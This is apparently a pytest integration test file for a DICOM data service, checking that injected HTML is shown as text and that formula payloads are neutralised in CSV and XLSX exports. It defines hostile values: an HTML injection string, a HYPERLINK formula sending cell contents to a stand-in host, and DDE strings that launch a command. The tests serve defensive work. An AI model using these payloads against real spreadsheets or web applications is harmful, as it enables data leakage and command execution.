"""Hostile DICOM values through the whole service: HTML injection into pages, formula injection
into exports (issue 19).

The payloads are stored as a hospital's modality would send them: C-STORE with dcmtk's
``storescu`` and STOW-RS over HTTP, to a running ``dicomlake serve``. Then every page is
fetched as admin and as analyst and parsed with Python's HTML parser (the oracle): no element
of the payload may exist, the payload is text, and the charts still get their data. Every
export (the pages' ``.csv`` twins, web export jobs in CSV and XLSX, ``dicomlake query
--format csv/tsv/xlsx``, ``dicomlake audit`` CSV and XLSX) is read back with the csv module and
by unzipping the XLSX: no ``<f>`` formula element, every dangerous cell starts with ``'``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import time
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests import web_support as ws
from tests.integration.netpeers import REPO, Served, dicomlake, free_port, storescu
from tests.support import missing

HTML = "</script><h1 id=pwned>INJECTED</h1><form action=/x><input name=q></form>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
OTHERS = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
CORPUS = REPO / "tests" / "data" / "corpus" / "openrem"
TRIGGER = tuple("=+-@\t\r")
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def _need(tool: str) -> None:
    if shutil.which(tool) is None:
        missing(f"{tool} missing (util/install-deb.sh installs dcmtk)")


def _hostile_files(folder: Path) -> dict[str, Path]:
    """Three instances whose values are the payloads (written without pydicom's VR checks)."""
    import pydicom
    from pydicom import config
    from pydicom.uid import generate_uid

    folder.mkdir(parents=True, exist_ok=True)
    old = config.settings.writing_validation_mode
    config.settings.writing_validation_mode = config.IGNORE
    try:
        out = {}
        # CT RDSR by C-STORE: the station (dose charts group by it), the study description
        ds = pydicom.dcmread(CORPUS / "CT-RDSR-GEPixelMed.dcm")
        ds.StationName, ds.StudyDescription, ds.PatientName = HTML, HTML, FORMULA
        ds.InstitutionName = OTHERS[0]
        ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
        ds.StudyDate = "20240102"
        ds.save_as(folder / "rdsr.dcm")
        out["cstore"] = folder / "rdsr.dcm"
        # a CT image by STOW-RS: the modality itself is the payload
        ws.planted_files(folder / "planted")
        ds = pydicom.dcmread(folder / "planted" / "001.dcm")
        ds.Modality, ds.StationName, ds.SeriesDescription, ds.PatientName = HTML, HTML, HTML, FORMULA
        ds.StudyDescription, ds.AccessionNumber = OTHERS[1], OTHERS[2][:16]
        ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
        ds.save_as(folder / "ct.dcm")
        out["stow-ct"] = folder / "ct.dcm"
        # an MG RDSR by STOW-RS (mammography charts)
        ds = pydicom.dcmread(CORPUS / "MG-RDSR-Hologic_2D.dcm")
        ds.StationName, ds.PatientName, ds.StudyDescription = HTML, FORMULA, OTHERS[3]
        ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
        ds.save_as(folder / "mg.dcm")
        out["stow-mg"] = folder / "mg.dcm"
        shutil.rmtree(folder / "planted")
        return out
    finally:
        config.settings.writing_validation_mode = old


def _wait_up(base: str, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            if httpx.get(f"{base}/healthz", timeout=5).status_code == 200:
                return
        except httpx.HTTPError:
            if time.monotonic() > deadline:
                raise
        time.sleep(0.1)


def _stow(base: str, auth: tuple[str, str], files: list[Path]) -> httpx.Response:
    b = "injection-boundary"
    body = b"".join(
        f"--{b}\r\nContent-Type: application/dicom\r\n\r\n".encode() + f.read_bytes() + b"\r\n" for f in files
    )
    body += f"--{b}--\r\n".encode()
    return httpx.post(
        f"{base}/dicomweb/studies",
        content=body,
        headers={"Content-Type": f'multipart/related; type="application/dicom"; boundary={b}'},
        auth=auth,
        timeout=120,
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    _need("storescu")
    root = tmp_path_factory.mktemp("injection")
    files = _hostile_files(root / "in")
    lake = root / "lake"
    lake.mkdir()
    ws.make_users(lake)
    http_port = free_port()
    env = {"DICOMLAKE_WEB__SECRET": ws.SECRET}
    with Served(lake, free_port(), "--allow-aet", "STORESCU", "--http-port", str(http_port), env=env) as served:
        base = f"http://127.0.0.1:{http_port}"
        _wait_up(base)
        ok, bad, out = storescu(served.port, [str(files["cstore"])])
        assert ok and not bad, out
        r = _stow(base, ("ada", ws.PASSWORDS["ada"]), [files["stow-ct"], files["stow-mg"]])
        assert r.status_code == 200, r.text
        admin = httpx.Client(base_url=base, auth=("ada", ws.PASSWORDS["ada"]), timeout=60)
        analyst = httpx.Client(base_url=base, auth=("ann", ws.PASSWORDS["ann"]), timeout=60)
        deadline = time.monotonic() + 60
        while True:  # the C-STORE goes through the spool: wait until the drainer committed it
            n = admin.get("/studies.json", params={"_level": "instance"}).json()["total"]
            if n >= 3 or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert n == 3, f"{n} instances in the lake, 3 sent"
        try:
            yield {"base": base, "admin": admin, "analyst": analyst, "lake": lake, "root": root}
        finally:
            admin.close()
            analyst.close()


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text of each JSON script element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.json_blocks: dict[str, str] = {}
        self._in_json: str | None = None
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append((tag, a))
        if tag == "script" and a.get("type") == "application/json":
            self._in_json = a.get("id") or "?"
            self.json_blocks[self._in_json] = ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_json = None

    def handle_data(self, data: str) -> None:
        if self._in_json is not None:
            self.json_blocks[self._in_json] += data
        else:
            self.text.append(data)


def _parse(html: str) -> _Elements:
    p = _Elements()
    p.feed(html)
    p.close()
    return p


def _injected(p: _Elements) -> list[str]:
    found = []
    for tag, a in p.tags:
        if (
            a.get("id") == "pwned"
            or (tag == "form" and a.get("action") == "/x")
            or (tag == "input" and a.get("name") == "q")
        ):
            found.append(f"<{tag} {a}>")
    return found


def _pages(client: httpx.Client, admin: bool) -> list[str]:
    studies = client.get("/studies.json", params={"_limit": 50}).json()["rows"]
    instances = client.get("/studies.json", params={"_level": "instance", "_limit": 50}).json()["rows"]
    paths = ["/studies", "/studies?_level=instance", "/studies?_level=series", "/dashboards", "/exports"]
    paths += [f"/studies/{r['StudyInstanceUID']}" for r in studies]
    paths += [f"/instances/{r['SOPInstanceUID']}" for r in instances]
    if admin:
        from dicomlake.audit import AUDITS

        paths += ["/audits", "/ingest", "/rejects", "/quality", "/access-log", "/access-log?_limit=200"]
        paths += [f"/audits/{a}" for a in AUDITS]
    return paths


@pytest.mark.parametrize("role", ["admin", "analyst"])
def test_a_stored_html_payload_is_text_on_every_page_and_the_charts_keep_their_data(
    site: dict[str, Any], role: str
) -> None:
    client: httpx.Client = site[role]
    problems: list[str] = []
    shown = 0
    paths = _pages(client, role == "admin")
    for path in paths:
        r = client.get(path, headers={"Accept": "text/html"})
        if r.status_code != 200:
            problems.append(f"{role} {path}: HTTP {r.status_code}")
            continue
        if "<h1 id=pwned" in r.text or "<form action=/x" in r.text:
            problems.append(f"{role} {path}: the payload is markup in the response")
        p = _parse(r.text)
        problems += [f"{role} {path}: injected element {e}" for e in _injected(p)]
        for name, text in p.json_blocks.items():
            try:
                data = json.loads(text)
            except ValueError as exc:
                problems.append(f"{role} {path}: script {name} is not JSON ({exc})")
                continue
            # the dashboards always have charts; the CT and MG audits have data in this lake
            if (name == "charts-data" or path in ("/audits/ct-dose", "/audits/mg-dose")) and not data:
                problems.append(f"{role} {path}: script {name} is empty")
        if "INJECTED" in "".join(p.text) or any("INJECTED" in t for t in p.json_blocks.values()):
            shown += 1
    # the payload was shown (as text or chart data) somewhere, so the pages were really tested
    assert shown >= (5 if role == "admin" else 1), f"payload shown on {shown} pages only"
    assert not problems, "\n".join(problems)


def test_dashboards_chart_data_hold_the_payload_as_data(site: dict[str, Any]) -> None:
    r = site["admin"].get("/dashboards", headers={"Accept": "text/html"})
    charts = {c["id"]: c for c in json.loads(_parse(r.text).json_blocks["charts-data"])}
    assert HTML in [row["x"] for row in charts["modality"]["rows"]]
    assert charts["ct-dose"]["rows"] and {row["group"] for row in charts["ct-dose"]["rows"]} == {HTML}
    assert charts["mg-agd"]["rows"], "mammography chart empty"


# ---- formula injection -----------------------------------------------------------------------


def _check_cells(rows: list[list[str]], where: str) -> tuple[list[str], int]:
    problems, seen = [], 0
    for row in rows:
        for cell in row:
            if "HYPERLINK" in cell:
                seen += 1
                if cell != "'" + FORMULA:
                    problems.append(f"{where}: cell {cell!r}")
            if cell.lstrip(" \n").startswith(TRIGGER) and not NUMBER.match(cell):
                problems.append(f"{where}: cell {cell!r} starts a formula")
    return problems, seen


def _csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8")), delimiter=delimiter))


def _xlsx_problems(data: bytes, where: str) -> tuple[list[str], int]:
    """No formula element in any sheet; the formula text is a string cell with a leading quote."""
    problems, seen = [], 0
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        texts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}
    for name, text in texts.items():
        if name.startswith("xl/worksheets/") and re.search(r"<f[ >]", text):
            problems.append(f"{where}: {name} has a formula element")
    strings = "".join(t for n, t in texts.items() if n.startswith(("xl/worksheets/", "xl/sharedStrings")))
    seen = strings.count("HYPERLINK")
    quoted = strings.count("&apos;=HYPERLINK") + strings.count("'=HYPERLINK")
    if quoted != seen:
        problems.append(f"{where}: {seen - quoted} of {seen} HYPERLINK texts without a leading quote")
    return problems, seen


def _export(client: httpx.Client, fmt: str, query: str) -> bytes:
    r = client.post("/exports", data={"format": fmt, "query": query})
    assert r.status_code == 202, r.text
    job = r.json()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        st = client.get(f"/exports/{job['id']}.json").json()
        if st["status"] in ("done", "failed"):
            break
        time.sleep(0.1)
    assert st["status"] == "done", st
    return client.get(f"/exports/{job['id']}/download").content


def test_every_web_export_neutralises_formulas(site: dict[str, Any]) -> None:
    admin: httpx.Client = site["admin"]
    problems: list[str] = []
    seen = 0
    cols = "_col=PatientName,StationName,StudyDescription,InstitutionName,AccessionNumber,Modality,CTDIvol"
    for path in ("/studies.csv", f"/studies.csv?_level=instance&{cols}", "/dashboards.csv", "/access-log.csv"):
        r = admin.get(path)
        assert r.status_code == 200, (path, r.text)
        p, n = _check_cells(_csv_rows(r.content), path)
        problems += p
        seen += n
    study = admin.get("/studies.json").json()["rows"][0]["StudyInstanceUID"]
    p, n = _check_cells(_csv_rows(admin.get(f"/studies/{study}.csv").content), "study csv")
    problems += p
    for fmt in ("csv", "xlsx"):
        data = _export(admin, fmt, f"_level=instance&{cols}")
        if fmt == "csv":
            p, n = _check_cells(_csv_rows(data), "export csv")
        else:
            p, n = _xlsx_problems(data, "export xlsx")
        problems += p
        seen += n
        assert n == 3, f"export {fmt}: the formula seen {n} times, 3 stored"
    assert seen >= 6
    assert not problems, "\n".join(problems)


def test_cli_query_and_audit_reports_neutralise_formulas(site: dict[str, Any], tmp_path: Path) -> None:
    lake = str(site["lake"])
    sel = "PatientName,StationName,StudyDescription,InstitutionName,Modality,CTDIvol"
    problems: list[str] = []
    for fmt, delim in (("csv", ","), ("tsv", "\t")):
        r = dicomlake("query", "--lake", lake, "--select", sel, "--format", fmt)
        assert r.returncode == 0, r.stderr
        p, n = _check_cells(_csv_rows(r.stdout.encode(), delim), f"query {fmt}")
        assert n == 3, f"query {fmt}: formula seen {n} times"
        problems += p
    out = tmp_path / "q.xlsx"
    r = dicomlake("query", "--lake", lake, "--select", sel, "--format", "xlsx", "--out", str(out))
    assert r.returncode == 0, r.stderr
    p, n = _xlsx_problems(out.read_bytes(), "query xlsx")
    assert n == 3
    problems += p
    report = tmp_path / "ct.html"
    r = dicomlake("audit", "ct-dose", "--lake", lake, "--out", str(report))
    assert r.returncode == 0, r.stderr
    csvs = sorted(tmp_path.glob("ct-*.csv"))
    assert csvs
    for f in csvs:
        problems += _check_cells(_csv_rows(f.read_bytes()), f.name)[0]
    problems += _xlsx_problems(report.with_suffix(".xlsx").read_bytes(), "audit xlsx")[0]
    assert not problems, "\n".join(problems)
